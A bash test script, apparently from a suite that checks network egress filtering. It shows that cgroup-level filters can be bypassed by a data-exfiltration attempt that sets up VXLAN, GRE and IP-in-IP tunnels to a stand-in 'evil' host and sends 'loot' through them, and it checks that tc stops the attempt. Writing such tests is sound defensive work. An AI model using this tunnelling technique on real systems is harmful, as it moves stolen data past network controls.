#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes a tunnel in its own network namespace (VXLAN, GRE, IP-in-IP, 6in4) whose other end is evil, and sends allowed traffic through it
# stopped-by: tc
# reason: port
# kernels: all
#
# The cgroup's programs see what goes into the tunnel, and the kernel sends what comes out of it: only the
# interface sees where to.
. "$(dirname "$0")/../interfaces/lib.sh"
container udp/9000
EVIL=203.0.113.66 # of every run: the tunnels are there before it
ALSO_FORBIDDEN=${EVIL//./\\.}

tunnel() {
	ip -n "$CLIENT" link add "$1" type "${@:3}" 2>/dev/null || return 0
	ip -n "$CLIENT" link set "$1" up
	ip -n "$CLIENT" route add "$2/32" dev "$1"
	MADE+=("$1")
}
MADE=()
tunnel vxlan7 198.51.100.71 vxlan id 7 dstport 4789 local 192.0.2.2 remote "$EVIL"
ip -n "$CLIENT" neighbour add 198.51.100.71 lladdr 02:00:00:00:00:71 dev vxlan7
tunnel gre7 198.51.100.72 gre local 192.0.2.2 remote "$EVIL"
tunnel ipip7 198.51.100.73 ipip local 192.0.2.2 remote "$EVIL"
[[ " ${MADE[*]} " == *" vxlan7 "* ]] || skip "this kernel makes no tunnels"
echo "tunnels: ${MADE[*]}"

attack_by <<'PYTHON'
from attacker import *
tunnels = {"vxlan": "198.51.100.71", "gre": "198.51.100.72", "ipip": "198.51.100.73"}
for tag in sys.argv[1:]:
    address = tunnels[tag]
    with attempt(tag):
        udp(GOOD4).sendto(loot(tag), (address, 9000))
PYTHON
ATTACK+=("${MADE[@]%7}")
expected=()
for made in "${MADE[@]}"; do
	expected+=("stolen:${made%7}")
done
works "${expected[@]}"
gate_by --allow 198.51.100.64/27=udp/9000
forget
stopped
recorded tc port
